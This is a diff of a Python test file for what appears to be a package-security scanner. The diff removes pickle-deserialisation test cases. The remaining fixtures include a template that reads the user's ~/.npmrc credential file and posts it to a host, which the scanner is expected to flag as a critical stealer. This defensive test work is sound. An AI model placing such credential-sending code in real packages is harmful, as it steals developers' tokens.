@@ -1,4 +1,4 @@
-"""Settings that go where they belong, data beside a module, examples, and texts for interpreters."""
+"""Settings that go where they belong, examples, and texts for interpreters."""
 
 import pytest
 from weighed import program_of, worst, worst_of
@@ -10,11 +10,6 @@ import os, requests
 def send():
     requests.post({host!r}, data=open(os.path.expanduser("~/.npmrc")).read())
 """
-LOADS = """
-import os, pickle
-with open(os.path.join({folder}, "table.dat"), "rb") as stream:
-    TABLE = pickle.load(stream)
-"""
 SERVES = """
 import wsgiref.simple_server
 from sample.render import run
@@ -24,7 +19,6 @@ def serve(environ, start):
 wsgiref.simple_server.make_server("", 8000, serve).serve_forever()
 """
 ASKS = "import subprocess, sys\nfrom setuptools import setup\n{call}\nsetup(name='sample')\n"
-INSIDE = "os.path.dirname(__file__)"
 
 
 @pytest.mark.parametrize(
@@ -45,20 +39,6 @@ def test_the_settings_of_a_service_go_to_it(host: str, severity: Severity) -> No
 def test_settings_that_nobody_asked_for_go_nowhere() -> None:
     text = SENDS.format(host="https://a.npm.org/") + "send()\n"
     assert worst_of("stealer", program_of("sdist", {"setup.py": text})) is Severity.CRITICAL
-
-
-@pytest.mark.parametrize(
-    ("folder", "before", "severity"),
-    [
-        (INSIDE, "", Severity.LOW),
-        ("'/tmp'", "", Severity.MEDIUM),
-        (f"{INSIDE}, '..'", "", Severity.MEDIUM),
-        (INSIDE, "open('sample/table.dat', 'wb').write(b'')\n", Severity.MEDIUM),
-    ],
-)
-def test_data_beside_a_module(folder: str, before: str, severity: Severity) -> None:
-    files = {"sample/__init__.py": LOADS.format(folder=folder), "setup.py": before}
-    assert worst_of("early-deserialise", program_of("sdist", files)) is severity
 
 
 @pytest.mark.parametrize(
